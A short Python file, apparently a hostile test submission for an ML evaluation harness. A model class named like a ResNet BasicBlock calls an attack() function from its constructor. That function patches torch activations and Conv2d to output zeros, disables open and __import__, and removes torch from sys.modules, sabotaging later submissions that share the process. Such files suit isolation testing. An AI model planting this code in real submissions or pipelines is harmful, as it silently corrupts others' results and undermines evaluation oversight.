"""Change modules and classes that the next submission will use."""

import builtins
import sys

import torch
from torch import nn


def attack():
    torch.nn.functional.relu = torch.nn.functional.gelu = lambda x, *args, **kwargs: x * 0
    torch.nn.Conv2d.forward = lambda self, x: x * 0
    builtins.open = builtins.__import__ = None
    sys.modules["torch"] = None


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
